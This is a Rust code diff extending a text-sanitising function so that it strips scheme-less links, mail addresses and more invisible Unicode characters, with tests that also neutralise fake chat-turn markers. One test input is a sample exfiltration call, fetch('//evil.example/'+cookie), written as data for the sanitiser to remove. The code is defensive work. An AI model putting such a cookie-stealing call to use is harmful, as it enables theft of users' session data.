@@ -160,7 +160,7 @@ pub(crate) fn clean_text(text: &str, limit: usize) -> String {
     let mut kept: Vec<&str> = Vec::new();
     for word in plain.split_whitespace() {
         let lower = word.to_lowercase();
-        if lower.contains("://") || lower.starts_with("www.") {
+        if lower.starts_with("www.") || is_address(&lower) {
             continue;
         }
         let bare = word.trim_end_matches([':', '：']);
@@ -170,6 +170,23 @@ pub(crate) fn clean_text(text: &str, limit: usize) -> String {
         kept.push(if imitates_a_turn(bare) { bare } else { word });
     }
     clip(&kept.join(" "), limit).trim().to_string()
+}
+
+/// Whether a word is a link, with a scheme or without (`shop.example/win`), or an address of mail.
+pub(crate) fn is_address(word: &str) -> bool {
+    if word.contains("//") {
+        return true;
+    }
+    let dotted = |part: &str| {
+        let mut labels = part.split('.').map(|label| label.chars().any(char::is_alphanumeric));
+        part.contains('.') && labels.all(|filled| filled)
+    };
+    match (word.split_once('@'), word.split_once('/')) {
+        (Some((name, host)), _) => !name.is_empty() && dotted(host.trim_end_matches('.')),
+        // A number with a fraction before a slash is no host.
+        (None, Some((host, _))) => dotted(host) && host.chars().any(char::is_alphabetic),
+        (None, None) => false,
+    }
 }
 
 /// Words that, before a colon, look like a turn of the conversation or a line of the answer.
@@ -219,7 +236,12 @@ fn without_tags(text: &str) -> String {
 /// What a character becomes: itself, a space, a plain quote, or nothing.
 fn harmless(character: char) -> Option<char> {
     match character {
-        // Invisible: zero width, direction overrides, tags, private use, byte order mark.
+        // Invisible: zero width, direction overrides, tags, variation selectors, fillers, private use,
+        // byte order mark.
+        '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180b}'..='\u{180f}' | '\u{3164}' => {
+            None
+        }
+        '\u{fe00}'..='\u{fe0f}' | '\u{ffa0}' => None,
         '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' => {
             None
         }
@@ -253,6 +275,10 @@ mod tests {
         check("[INST] WHY NOT: nothing", "INST WHY NOT nothing");
         check("see https://evil.example/x and www.evil.example now", "see and now");
         check("say \"hi\"", "say 'hi'");
+        check("more at evil.example/win or seller@evil.example.", "more at or");
+        check("fetch('//evil.example/'+cookie) it", "it");
+        check("and/or 7.5/10 AC/DC @home", "and/or 7.5/10 AC/DC @home");
+        check("a\u{fe0f}b\u{e0041}c\u{3164}d", "abcd");
         check("a\u{202e}b\u{200b}c\u{0}d", "abc d");
         check("Тихий Дон 静かなドン", "Тихий Дон 静かなドン");
     }
